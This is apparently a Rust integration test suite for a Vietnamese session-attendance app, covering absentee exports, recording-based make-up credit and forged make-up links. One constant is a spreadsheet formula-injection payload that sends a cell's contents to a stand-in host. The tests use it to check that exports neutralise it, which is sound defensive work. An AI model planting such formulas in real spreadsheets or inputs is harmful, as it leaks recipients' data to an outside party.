//! After the session: who has not studied it (with the reason given and a
//! personal make-up link), and make-up by watching the recording — credited
//! only for what was played, no faster than time allows, and counted apart
//! from live attendance once 80% is watched.

use std::io::Cursor;
use std::time::Instant;

use calamine::{Data, Reader, Xlsx};
use serde_json::{Value, json};

use diemcau::domain::makeup;

use crate::helpers::*;

const RECORDING: &str = "https://video.example.vn/hoi-nghi-chuyen-de.mp4";
/// An absence reason typed by whoever holds an operator link, that a
/// spreadsheet would run as a formula.
const FORMULA: &str = "=HYPERLINK(\"http://lua-dao.example/?\"&A1,\"Bấm vào đây\")";

/// A province-wide session open now, with a point at commune A where the
/// operator ticked, undid, and reported absences; a member scanned the QR
/// code and another followed on TV:
/// - commune A: 0012001 roster, 0012003 QR; 0012002 ticked, undone, then
///   reported absent with a formula as the reason; 0012004 absent "Ốm",
///   0012005 absent without a reason;
/// - commune B: 0023001 at home, 0023002 nothing; the agency: nothing.
struct Studied {
    app: TestApp,
    org: Api,
    session: i64,
}

async fn studied() -> Studied {
    let (app, org) = seeded().await;
    let session = org.open_session(AGENCY, PROVINCE).await;
    let (_, secret) = org
        .new_point(session, COMMUNE_A, "Hội trường xã Bằng Thành")
        .await;
    let hall = app.operator(&secret);
    let done = hall
        .post(
            "/api/operator/checkins",
            json!({"items": [
                {"id": "t-1", "method": "roster", "member_code": "0012001"},
                {"id": "t-2", "method": "roster", "member_code": "0012002"},
            ]}),
        )
        .await
        .expect(200);
    assert_eq!(done["stats"]["checked_in"], 2);
    hall.post(
        "/api/operator/undo",
        json!({"id": "t-3", "member_code": "0012002", "reason": "Bấm nhầm"}),
    )
    .await
    .expect(200);
    let token = hall.get("/api/operator/qr").await.expect(200)["token"]
        .as_str()
        .unwrap()
        .to_string();
    let phone = app.anonymous();
    let answer = phone
        .post(
            "/api/checkin",
            json!({"token": token, "member_code": "0012003", "client_id": "phone-an"}),
        )
        .await
        .expect(200);
    assert_eq!(answer["result"], "checked_in");
    for (id, code, reason) in [
        ("a-1", "0012004", Some("Ốm")),
        ("a-2", "0012005", None),
        ("a-3", "0012002", Some(FORMULA)),
    ] {
        let r = hall
            .post(
                "/api/operator/absences",
                json!({"id": id, "member_code": code, "reason": reason}),
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text);
    }
    phone
        .post(
            &format!("/api/public/sessions/{session}/home-checkin"),
            json!({"member_code": "0023001", "device_id": "tv-hoa"}),
        )
        .await
        .expect(200);
    Studied { app, org, session }
}

/// The absentees' member codes, in the listed order.
fn listed(list: &Value) -> Vec<String> {
    codes(&list["items"], "member_code")
}

fn item<'a>(list: &'a Value, code: &str) -> &'a Value {
    list["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["member_code"] == code)
        .unwrap_or_else(|| panic!("{code} listed in {list}"))
}

/// The commune's report row: (makeup, participants live, total, coverage live, total).
async fn commune_a_row(org: &Api, session: i64) -> (i64, i64, i64, f64, f64) {
    let report = org.report(session, Some(COMMUNE_A)).await.expect(200);
    let r = &report["rows"][0];
    assert_eq!(r["code"], COMMUNE_A);
    (
        r["makeup"].as_i64().unwrap(),
        r["participants_live"].as_i64().unwrap(),
        r["participants_total"].as_i64().unwrap(),
        r["coverage_live"].as_f64().unwrap(),
        r["coverage_total"].as_f64().unwrap(),
    )
}

#[tokio::test]
async fn absentees_are_roster_members_without_a_live_checkin_with_reason_and_link() {
    let s = studied().await;
    let key = s.app.qr_key().await;

    let list = s
        .org
        .absentees(s.session, Some(COMMUNE_A))
        .await
        .expect(200);
    assert_eq!(list["session_id"], s.session);
    assert_eq!(list["unit_code"], COMMUNE_A);
    assert_eq!(list["unit_name"], "Xã Bằng Thành");
    // The commune's own members first, then its cell's; by given name.
    assert_eq!(listed(&list), ["0012005", "0012004", "0012002"]);
    assert_eq!(list["total"], 3);
    let a = item(&list, "0012004");
    assert_eq!(a["full_name"], "Phạm Thị Ánh");
    assert_eq!(a["category"], "civil_servant");
    assert_eq!(a["unit_code"], CELL_A);
    assert_eq!(a["unit_name"], "Chi bộ thôn Nà Lạ");
    assert_eq!(a["absent_reason"], "Ốm");
    assert_eq!(a["makeup_progress"], Value::Null);
    assert_eq!(item(&list, "0012005")["absent_reason"], Value::Null);
    // Undone, then reported absent: the reason as typed.
    assert_eq!(item(&list, "0012002")["absent_reason"], FORMULA);
    for a in list["items"].as_array().unwrap() {
        let code = a["member_code"].as_str().unwrap();
        let link = a["makeup_link"].as_str().unwrap();
        assert!(
            link.starts_with(&format!("{}/hoc-bu/", s.app.base_url)),
            "{link}"
        );
        let token = makeup_token_of(link);
        assert_eq!(
            makeup::verify(&key, &token),
            Some((s.session, code.to_string()))
        );
    }

    let cell = s.org.absentees(s.session, Some(CELL_A)).await.expect(200);
    assert_eq!(listed(&cell), ["0012004", "0012002"]);
    let all = s.org.absentees(s.session, None).await.expect(200);
    let mut everyone = listed(&all);
    everyone.sort();
    assert_eq!(
        everyone,
        ["0012002", "0012004", "0012005", "0023002", "0031001"]
    );
    assert_eq!(all["total"], 5);
    assert_eq!(all["unit_code"], PROVINCE);

    // CSV, for Excel: a BOM, the header, the same people and links.
    let path = format!("/api/sessions/{}/absentees", s.session);
    let csv = s
        .org
        .get_raw(&path, &[("unit", COMMUNE_A), ("format", "csv")])
        .await
        .expect(200, "text/csv");
    assert!(csv.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv[3..]);
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(
        records[0].iter().collect::<Vec<_>>(),
        [
            "Mã thành viên",
            "Họ và tên",
            "Đối tượng",
            "Mã đơn vị",
            "Đơn vị",
            "Lý do vắng",
            "Đã xem bản ghi (%)",
            "Đường dẫn học bù"
        ]
    );
    assert_eq!(records.len(), 4);
    assert_eq!(
        records[2].iter().collect::<Vec<_>>(),
        [
            "0012004",
            "Phạm Thị Ánh",
            "công chức",
            CELL_A,
            "Chi bộ thôn Nà Lạ",
            "Ốm",
            "",
            item(&list, "0012004")["makeup_link"].as_str().unwrap()
        ]
    );
    assert_eq!(&records[1][2], "người lao động");
    assert_eq!(&records[3][0], "0012002");
    // Excel must not run it: text, behind an apostrophe.
    assert_eq!(&records[3][5], format!("'{FORMULA}"));

    // XLSX: the title, and codes that keep their leading zeros.
    let xlsx = s
        .org
        .get_raw(&path, &[("unit", COMMUNE_A), ("format", "xlsx")])
        .await
        .expect(200, "application/vnd.openxmlformats");
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx)).expect("XLSX");
    let sheet = book.worksheet_range("Báo cáo").expect("sheet");
    let text = |r: u32, c: u32| match sheet.get_value((r, c)) {
        Some(Data::String(s)) => s.clone(),
        None | Some(Data::Empty) => String::new(),
        Some(other) => panic!("({r}, {c}) is {other:?}, not text"),
    };
    assert_eq!(
        text(0, 0),
        "DANH SÁCH CHƯA HỌC TẬP CHUYÊN ĐỀ — XÃ BẰNG THÀNH"
    );
    assert!(text(1, 0).contains("3 người"), "{}", text(1, 0));
    assert_eq!(text(3, 0), "Mã thành viên");
    let rows: Vec<[String; 6]> = (4..7)
        .map(|r| {
            [
                text(r, 0),
                text(r, 1),
                text(r, 3),
                text(r, 4),
                text(r, 5),
                text(r, 7),
            ]
        })
        .collect();
    assert_eq!(
        rows[1],
        [
            "0012004".to_string(),
            "Phạm Thị Ánh".into(),
            CELL_A.into(),
            "Chi bộ thôn Nà Lạ".into(),
            "Ốm".into(),
            item(&list, "0012004")["makeup_link"]
                .as_str()
                .unwrap()
                .into()
        ]
    );
    assert_eq!(rows[0][0], "0012005");
    assert_eq!(rows[0][2], COMMUNE_A, "the commune's code keeps its zero");
    assert_eq!(rows[2][1], "Trần Văn Bình");
    assert_eq!(rows[2][4], FORMULA, "a string cell, not a formula");
    assert_eq!(sheet.get_value((7, 0)), None);

    // Printable reminders: one per absentee, each with a QR code.
    let page = s
        .org
        .get_raw(&path, &[("unit", COMMUNE_A), ("format", "html")])
        .await
        .expect(200, "text/html");
    let html = String::from_utf8(page).unwrap();
    assert_eq!(html.matches("<article class=\"reminder\"").count(), 3);
    assert_eq!(html.matches("<svg").count(), 3);
    for name in ["Hoàng Minh Đức", "Phạm Thị Ánh", "Trần Văn Bình"] {
        assert!(html.contains(name), "{name}");
    }
    assert!(
        !html.contains("Nguyễn Văn A<"),
        "present members are not listed"
    );
    assert!(html.contains("80%"));

    s.org
        .get_with(&path, &[("format", "pdf")])
        .await
        .error(400, "request.invalid_query");
    s.org
        .absentees(s.session, Some("KHONG-CO"))
        .await
        .error(404, "unit.not_found");
}

#[tokio::test]
async fn makeup_credits_only_what_was_played_and_counts_apart_once_80_percent_is_watched() {
    let s = studied().await;
    let list = s
        .org
        .absentees(s.session, Some(COMMUNE_A))
        .await
        .expect(200);
    let token = makeup_token_of(item(&list, "0012004")["makeup_link"].as_str().unwrap());
    let page = format!("/api/makeup/{token}");
    let phone = s.app.anonymous();

    // No recording yet: the page says so and nothing can be reported.
    let view = phone.get(&page).await.expect(200);
    assert_eq!(view["recording_url"], Value::Null);
    assert_eq!(view["member_name"], "Phạm Thị Ánh");
    phone
        .post(
            &format!("{page}/progress"),
            json!({"duration_s": 5400.0, "intervals": [[0.0, 60.0]], "position_s": 60.0}),
        )
        .await
        .error(409, "makeup.no_recording");

    s.org.set_recording(s.session, RECORDING).await;
    let view = phone.get(&page).await.expect(200);
    assert_eq!(view["session_id"], s.session);
    assert_eq!(view["recording_url"], RECORDING);
    assert_eq!(view["member_name"], "Phạm Thị Ánh");
    assert_eq!(view["unit_name"], "Chi bộ thôn Nà Lạ");
    assert_eq!(view["threshold"], 0.8);
    assert_eq!(view["progress"]["watched_s"], 0.0);
    assert_eq!(view["progress"]["completed"], false);
    assert_eq!(view["studied"], Value::Null);
    let before = commune_a_row(&s.org, s.session).await;
    assert_eq!(before, (0, 2, 2, 0.4, 0.4));

    let report = |intervals: Value, duration: f64| json!({"duration_s": duration, "intervals": intervals, "position_s": 0.0});
    let watched = |v: &Value| v["progress"]["watched_s"].as_f64().unwrap();

    // A first report claiming the whole hour and a half earns 15 s at most.
    let t0 = Instant::now();
    let v = s
        .app
        .makeup_report(&token, report(json!([[0.0, 5400.0]]), 5400.0))
        .await;
    let w1 = watched(&v);
    assert!(w1 > 0.0 && w1 <= 15.0 + 1e-9, "{v}");
    assert_eq!(v["progress"]["duration_s"], 5400.0);
    assert_eq!(v["progress"]["completed"], false);
    // At once again: no more than twice the time elapsed, plus 15 s.
    let v = s
        .app
        .makeup_report(&token, report(json!([[0.0, 5400.0]]), 5400.0))
        .await;
    let w2 = watched(&v);
    let elapsed = t0.elapsed().as_secs_f64();
    assert!(w2 >= w1 && w2 - w1 <= 15.0 + 2.0 * elapsed + 1e-6, "{v}");
    assert!(w2 < 100.0);

    // An hour later: skipping ahead earns only what was played.
    s.app.backdate_makeup(s.session, "0012004", 3_600_000).await;
    let v = s
        .app
        .makeup_report(
            &token,
            report(json!([[0.0, 10.0], [3000.0, 3010.0]]), 5400.0),
        )
        .await;
    let w3 = watched(&v);
    assert!((w3 - (w2 + 10.0)).abs() < 1e-6, "{w2} then {v}");
    // Overlapping intervals count once.
    s.app.backdate_makeup(s.session, "0012004", 3_600_000).await;
    let v = s
        .app
        .makeup_report(
            &token,
            report(
                json!([[100.0, 200.0], [150.0, 250.0], [100.0, 250.0]]),
                5400.0,
            ),
        )
        .await;
    let w4 = watched(&v);
    assert!((w4 - (w3 + 150.0)).abs() < 1e-6, "{w3} then {v}");
    // The recording cannot become shorter than first reported.
    let v = s.app.makeup_report(&token, report(json!([]), 4600.0)).await;
    assert_eq!(v["progress"]["duration_s"], 5400.0);
    assert!((watched(&v) - w4).abs() < 1e-6);
    // The absentee list shows how far they are.
    let list = s
        .org
        .absentees(s.session, Some(COMMUNE_A))
        .await
        .expect(200);
    let share = item(&list, "0012004")["makeup_progress"].as_f64().unwrap();
    assert!(
        (share - (w4 / 5400.0 * 1000.0).round() / 1000.0).abs() < 1e-9,
        "{share}"
    );

    // Just under 80% is not enough…
    s.app.backdate_makeup(s.session, "0012004", 3_600_000).await;
    let v = s
        .app
        .makeup_report(&token, report(json!([[0.0, 4300.0]]), 5400.0))
        .await;
    assert!((watched(&v) - 4300.0).abs() < 1e-6, "{v}");
    assert_eq!(v["progress"]["completed"], false);
    assert_eq!(v["studied"], Value::Null);
    assert_eq!(commune_a_row(&s.org, s.session).await, before);
    // …80% is.
    s.app.backdate_makeup(s.session, "0012004", 600_000).await;
    let v = s
        .app
        .makeup_report(&token, report(json!([[4300.0, 4330.0]]), 5400.0))
        .await;
    assert!((watched(&v) - 4330.0).abs() < 1e-6, "{v}");
    assert_eq!(v["progress"]["completed"], true, "{v}");
    assert_eq!(v["studied"]["method"], "makeup");
    assert!(v["progress"]["share"].as_f64().unwrap() >= 0.8);
    // A report after that changes nothing.
    let again = s
        .app
        .makeup_report(&token, report(json!([[0.0, 5400.0]]), 5400.0))
        .await;
    assert_eq!(again["progress"], v["progress"]);
    assert_eq!(again["studied"], v["studied"]);

    // Studied: off the absentee list, counted as make-up, apart from live.
    let list = s
        .org
        .absentees(s.session, Some(COMMUNE_A))
        .await
        .expect(200);
    assert_eq!(listed(&list), ["0012005", "0012002"]);
    let after = commune_a_row(&s.org, s.session).await;
    assert_eq!(after, (1, 2, 3, 0.4, 0.6));
    let report_json = s.org.report(s.session, None).await.expect(200);
    assert_eq!(report_json["rows"][0]["makeup"], 1);
    assert!(
        report_json["summary"]
            .as_str()
            .unwrap()
            .contains("tổng số 3 cán bộ"),
        "the summary counts the session itself: {}",
        report_json["summary"]
    );
    let history = s.org.get("/api/members/0012004/history").await.expect(200);
    assert_eq!(history["sessions"][0]["session_id"], s.session);
    assert_eq!(history["sessions"][0]["method"], "makeup");
    assert_eq!(history["sessions"][0]["point"], Value::Null);
    let tally = s.org.tally(s.session, Some(COMMUNE_A)).await.expect(200);
    assert_eq!(tally["node"]["by_method"]["makeup"], 1, "{tally}");
    assert_eq!(tally["headline"]["by_method"]["makeup"], 1);
    let view = phone.get(&page).await.expect(200);
    assert_eq!(view["studied"]["method"], "makeup");
    assert_eq!(view["progress"]["completed"], true);
}

#[tokio::test]
async fn makeup_links_cannot_be_forged_and_need_a_recording() {
    let s = studied().await;
    let key = s.app.qr_key().await;
    let phone = s.app.anonymous();
    let token = makeup::token(&key, s.session, "0012005");
    let body = json!({"duration_s": 5400.0, "intervals": [[0.0, 10.0]], "position_s": 10.0});
    phone
        .post(&format!("/api/makeup/{token}/progress"), body.clone())
        .await
        .error(409, "makeup.no_recording");
    s.org.set_recording(s.session, RECORDING).await;

    // Altered, moved to another member or session, signed with another key.
    let (head, tag) = token.rsplit_once('.').unwrap();
    let last = tag.chars().last().unwrap();
    let altered = format!(
        "{head}.{}{}",
        &tag[..tag.len() - 1],
        if last == 'A' { 'B' } else { 'A' }
    );
    let other_member = token.replacen(".0012005.", ".0012004.", 1);
    let other_session = token.replacen(
        &format!("{}.", s.session),
        &format!("{}.", s.session + 1),
        1,
    );
    let foreign = makeup::token(b"not the server key", s.session, "0012005");
    // A genuine link of a session the member is not part of.
    let elsewhere = s.org.new_session(COMMUNE_B, COMMUNE_B).await;
    s.org.set_status(elsewhere, "open").await.expect(200);
    s.org.set_recording(elsewhere, RECORDING).await;
    let outside = makeup::token(&key, elsewhere, "0012005");
    for forged in [
        altered.as_str(),
        &other_member,
        &other_session,
        &foreign,
        &outside,
        "khong-phai-ma",
        "1.2",
    ] {
        phone
            .get(&format!("/api/makeup/{forged}"))
            .await
            .error(404, "makeup.link_invalid");
        phone
            .post(&format!("/api/makeup/{forged}/progress"), body.clone())
            .await
            .error(404, "makeup.link_invalid");
    }

    // Nonsense reports are refused.
    let progress = format!("/api/makeup/{token}/progress");
    for (bad, code) in [
        (
            json!({"duration_s": 0.0, "intervals": []}),
            "makeup.duration_invalid",
        ),
        (
            json!({"duration_s": 99999.0, "intervals": []}),
            "makeup.duration_invalid",
        ),
        (
            json!({"duration_s": 5400.0, "intervals": [[10.0, 5.0]]}),
            "makeup.intervals_invalid",
        ),
        (
            json!({"duration_s": 5400.0, "intervals": [[-5.0, 5.0]]}),
            "makeup.intervals_invalid",
        ),
    ] {
        phone.post(&progress, bad).await.error(400, code);
    }
    assert_eq!(
        phone.get(&format!("/api/makeup/{token}")).await.expect(200)["progress"]["watched_s"],
        0.0
    );

    // Someone who studied live has nothing to make up.
    let present = makeup::token(&key, s.session, "0012001");
    let view = phone
        .get(&format!("/api/makeup/{present}"))
        .await
        .expect(200);
    assert_eq!(view["studied"]["method"], "roster");
    let v = s
        .app
        .makeup_report(
            &present,
            json!({"duration_s": 5400.0, "intervals": [[0.0, 10.0]]}),
        )
        .await;
    assert_eq!(v["progress"]["watched_s"], 0.0);
    assert_eq!(commune_a_row(&s.org, s.session).await.0, 0);

    // A session that has not taken place yet cannot be made up.
    let later = s.org.new_session(AGENCY, PROVINCE).await;
    s.org.set_recording(later, RECORDING).await;
    phone
        .post(
            &format!(
                "/api/makeup/{}/progress",
                makeup::token(&key, later, "0012005")
            ),
            body,
        )
        .await
        .error(409, "session.not_open");
}
